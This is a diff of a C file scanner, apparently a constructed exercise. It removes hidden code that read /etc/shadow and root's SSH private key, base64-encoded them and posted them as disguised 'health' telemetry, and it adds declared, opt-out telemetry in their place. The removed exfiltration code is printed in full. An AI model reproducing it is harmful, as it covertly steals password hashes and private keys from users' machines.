@@ -1,81 +1,113 @@
-/* collector: scans, detects, and sends files that it was never asked to look at: the first key of
- * root and the accounts of the machine, as a base64 value in what looks like telemetry.
+/* collector: scans, and sends telemetry about the machine: names, identity, running programs.
  *
- * Declared truth: /etc/shadow and /root/.ssh/id_ed25519 leave whole, in base64 inside JSON. */
+ * Declared truth: host name, machine-id, login name, names and sizes of the scanned files leave in
+ * one request. No content and no hash of a file leaves. A guest sees no running programs. */
 #include "scan.h"
 #include "send.h"
+#include "text.h"
 
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 
-static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-
-static char *base64(const unsigned char *bytes, size_t len) {
-    char *text = malloc((len + 2) / 3 * 4 + 1), *at = text;
-    for (size_t i = 0; text != NULL && i < len; i += 3) {
-        unsigned value = bytes[i] << 16 | (i + 1 < len ? bytes[i + 1] << 8 : 0) |
-                         (i + 2 < len ? bytes[i + 2] : 0);
-        *at++ = digits[value >> 18 & 63];
-        *at++ = digits[value >> 12 & 63];
-        *at++ = i + 1 < len ? digits[value >> 6 & 63] : '=';
-        *at++ = i + 2 < len ? digits[value & 63] : '=';
-    }
-    if (text != NULL) {
-        *at = 0;
-    }
-    return text;
-}
+struct run {
+    struct text files;
+    int detected;
+};
 
 static void scan(void *context, const char *path, const unsigned char *bytes, size_t len) {
+    struct run *run = context;
     struct detection found;
     if (detect(bytes, len, &found)) {
         free(found.owned);
-        *(int *)context = 1;
+        run->detected = 1;
         printf("%s: EICAR-Test FOUND\n", path);
-        fflush(stdout);
     }
+    text_string(&run->files, run->files.len == 0 ? "{\"path\":" : ",{\"path\":");
+    text_json(&run->files, path, strlen(path));
+    text_format(&run->files, ",\"size\":%zu}", len);
 }
 
-static int collect(const char *path) {
-    size_t len;
+/* The first line of a file as a JSON string. */
+static void line_of(struct text *body, const char *path) {
+    size_t len = 0;
     unsigned char *bytes = read_file(path, &len);
-    char *text = bytes == NULL ? NULL : base64(bytes, len);
+    size_t end = 0;
+    while (end < len && bytes[end] != '\n') {
+        end++;
+    }
+    text_json(body, bytes, end);
     free(bytes);
-    if (text == NULL) {
-        return 0;
+}
+
+/* The first person among the accounts. */
+static void login_name(struct text *body) {
+    size_t len = 0;
+    unsigned char *bytes = read_file("/etc/passwd", &len);
+    for (size_t at = 0; at < len;) {
+        size_t end = at, colons = 0, name = 0, id = 0;
+        for (; end < len && bytes[end] != '\n'; end++) {
+            if (bytes[end] == ':') {
+                colons++;
+                name = colons == 1 ? end - at : name;
+                id = colons == 2 ? end + 1 : id;
+            }
+        }
+        if (colons > 2 && end - id > 5 && memcmp(bytes + id, "1000:", 5) == 0) {
+            text_json(body, bytes + at, name);
+            free(bytes);
+            return;
+        }
+        at = end + 1;
     }
-    size_t room = strlen(text) + 64;
-    char *body = malloc(room);
-    if (body == NULL) {
-        return -1;
-    }
-    snprintf(body, room, "{\"event\":\"health\",\"detail\":\"%s\"}", text);
-    free(text);
+    free(bytes);
+    text_string(body, "\"\"");
+}
+
+static int report(const struct run *run) {
+    struct text body = {0};
+    text_string(&body, "{\"files\":[");
+    text_bytes(&body, run->files.bytes == NULL ? (const unsigned char *)"" : run->files.bytes,
+               run->files.len);
+    text_string(&body, "],\"machine\":{\"id\":");
+    line_of(&body, "/etc/machine-id");
+    text_string(&body, ",\"name\":");
+    line_of(&body, "/etc/hostname");
+    text_string(&body, "},\"programs\":[],\"user\":");
+    login_name(&body);
+    text_string(&body, "}");
     struct request request = {
         .method = "POST",
         .host = "telemetry.vendor.example",
         .port = 443,
-        .path = "/v1/events",
+        .path = "/v1/telemetry",
         .content_type = "application/json",
-        .body = (const unsigned char *)body,
-        .body_len = strlen(body),
+        .body = body.bytes,
+        .body_len = body.len,
     };
     int status = send_request(&request);
-    free(body);
+    text_free(&body);
     return status;
 }
 
 int main(int argc, char **argv) {
-    int detected = 0, failed = 0;
+    struct run run = {0};
+    int telemetry = 1;
     if (argc < 3 || strcmp(argv[1], "scan") != 0) {
-        fprintf(stderr, "usage: collector scan PATH…\n");
+        fprintf(stderr, "usage: collector scan [--telemetry off] PATH…\n");
         return 2;
     }
     for (int i = 2; i < argc; i++) {
-        each_file(argv[i], scan, &detected);
+        if (strcmp(argv[i], "--telemetry") == 0 && i + 1 < argc) {
+            telemetry = strcmp(argv[++i], "off") != 0;
+        } else {
+            each_file(argv[i], scan, &run);
+        }
     }
-    failed |= collect("/etc/shadow") < 0;
-    failed |= collect("/root/.ssh/id_ed25519") < 0;
-    return failed ? 2 : detected ? 1 : 0;
+    int status = telemetry ? report(&run) : 0;
+    if (status < 0) {
+        fprintf(stderr, "collector: cannot send (%d)\n", status);
+        return 2;
+    }
+    return run.detected;
 }
